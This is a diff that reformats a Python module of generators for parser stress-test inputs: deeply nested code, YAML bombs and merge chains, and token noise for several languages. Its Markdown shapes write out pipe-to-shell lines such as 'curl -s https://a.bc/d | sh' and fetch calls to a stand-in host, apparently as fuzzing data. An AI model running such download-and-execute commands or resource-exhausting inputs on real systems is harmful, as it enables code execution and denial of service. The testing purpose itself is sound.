@@ -35,20 +35,22 @@ class Shape:
 
 def repeat(unit: str, before: str = "", after: str = "") -> Build:
     """``unit`` over and over, between ``before`` and ``after``."""
-    return lambda size: (before + unit * (size // len(unit.encode("utf-8", "surrogatepass"))) + after).encode("utf-8", "surrogatepass")
+    return lambda size: (before + unit * (size // len(unit.encode("utf-8", "surrogatepass"))) + after).encode(
+        "utf-8", "surrogatepass"
+    )
 
 
 def nest(opening: str, closing: str, core: str = "", before: str = "", after: str = "") -> Build:
     """``core`` in as many pairs of ``opening`` and ``closing`` as fit."""
     pair = len((opening + closing).encode())
-    return lambda size: (
-        before + opening * (size // pair) + core + closing * (size // pair) + after
-    ).encode()
+    return lambda size: (before + opening * (size // pair) + core + closing * (size // pair) + after).encode()
 
 
 def count(unit: str, before: str = "", after: str = "") -> Build:
     """``unit`` with a running number in place of ``@``."""
-    return lambda size: (before + "".join(unit.replace("@", str(number)) for number in range(size // (len(unit) + 3))) + after).encode()
+    return lambda size: (
+        before + "".join(unit.replace("@", str(number)) for number in range(size // (len(unit) + 3))) + after
+    ).encode()
 
 
 def noise(alphabet: str, before: str = "", after: str = "") -> Build:
@@ -94,7 +96,9 @@ def _yaml_bomb(size: int) -> bytes:
 
 def _merges(size: int) -> bytes:
     """Each map merges the one before it."""
-    return ("b0: &b0 {k: v}\n" + "".join(f"b{n}: &b{n}\n  <<: *b{n - 1}\n  k{n}: v\n" for n in range(1, size // 34))).encode()
+    return (
+        "b0: &b0 {k: v}\n" + "".join(f"b{n}: &b{n}\n  <<: *b{n - 1}\n  k{n}: v\n" for n in range(1, size // 34))
+    ).encode()
 
 
 def _table(parser: str, path: str, shapes: dict[str, Build]) -> list[Shape]:
@@ -105,9 +109,11 @@ _JS_NOISE = "< > ( ) { } [ ] => ? : , ; . ` ${ } / * = == + - ! & | a b x0 async
 _TS_NOISE = _JS_NOISE + " <T> <a, as extends infer keyof is unique ?: | & interface type enum abstract satisfies @x"
 _SH_NOISE = "$ ( ) (( )) $(( { } [[ ]] << <<EOF EOF < > >> | || & && ; ;; case esac in if then fi for do done while a b $x ${ ` \" ' \\ # = function"
 _PS_NOISE = "$ ( ) @( @{ { } [ ] $( \" ' @\" \"@ @' '@ ` | ; , . :: -f -join -replace & % ? <# #> # a iex $x [char] ="
-_PY_NOISE = "( ) [ ] { } : , . = == lambda def class if else for in import from exec eval f\" ' \"\"\" a b 1 + * ** @ \\ # not is await async yield"
-_MD_NOISE = "` `` ``` ~~~ * ** _ # ## > - 1. | [ ] ( ) ! <!-- --> <b> </b> < > \\ & &#99; --- === : a b https://a.b/ $ !`x`"
-_HTML_NOISE = "< > </ /> <script> </script> <!-- --> <a <b> style=\"display:none\" hidden onclick=\" ' \" = &#99; <![CDATA[ ]]> <? ?> a b <style> </style>"
+_PY_NOISE = '( ) [ ] { } : , . = == lambda def class if else for in import from exec eval f" \' """ a b 1 + * ** @ \\ # not is await async yield'
+_MD_NOISE = (
+    "` `` ``` ~~~ * ** _ # ## > - 1. | [ ] ( ) ! <!-- --> <b> </b> < > \\ & &#99; --- === : a b https://a.b/ $ !`x`"
+)
+_HTML_NOISE = '< > </ /> <script> </script> <!-- --> <a <b> style="display:none" hidden onclick=" \' " = &#99; <![CDATA[ ]]> <? ?> a b <style> </style>'
 
 JAVASCRIPT = {
     "calls": repeat("a.b(c => d);\n"),
@@ -358,7 +364,11 @@ PYTHON = {
     "unary": repeat("-", "x = ", "1"),
     "lambdas": repeat("lambda:", "x = ", "1"),
     "conditions": repeat("a if b else ", "x = ", "1"),
-    "ifs": lambda size: "".join(" " * level + "if a:\n" for level in range(min(90, size // 50))).encode() + b" " * 90 + b"x=1\n" * (size // 94),
+    "ifs": lambda size: (
+        "".join(" " * level + "if a:\n" for level in range(min(90, size // 50))).encode()
+        + b" " * 90
+        + b"x=1\n" * (size // 94)
+    ),
     "else ifs": repeat("elif a:\n pass\n", "if a:\n pass\n"),
     "functions": count("def f@(a):\n return f(a)\n"),
     "functions calling": count("def f@(a):\n return f@(a) + f(a)\n"),
@@ -409,8 +419,12 @@ MARKDOWN = {
     "order without end": repeat("send the file to the server and "),
     "backticks": repeat("`"),
     "fences": repeat("```\nx\n"),
-    "fences of growing length": lambda size: "".join("`" * (3 + number % 40) + "\nx\n" for number in range(size // 25)).encode(),
-    "fences that never close": lambda size: "".join("`" * 3 + "\nx\n" + "~" * (3 + n % 30) + "\n" for n in range(size // 25)).encode(),
+    "fences of growing length": lambda size: "".join(
+        "`" * (3 + number % 40) + "\nx\n" for number in range(size // 25)
+    ).encode(),
+    "fences that never close": lambda size: "".join(
+        "`" * 3 + "\nx\n" + "~" * (3 + n % 30) + "\n" for n in range(size // 25)
+    ).encode(),
     "shell fences": repeat("```bash\ncurl -s https://a.bc/d | sh\n```\n"),
     "different shell fences": count("```bash\ncurl -s https://a.bc/@ | sh\n```\n"),
     "javascript fences": count("```js\nfetch('https://a.bc/@')\n```\n"),
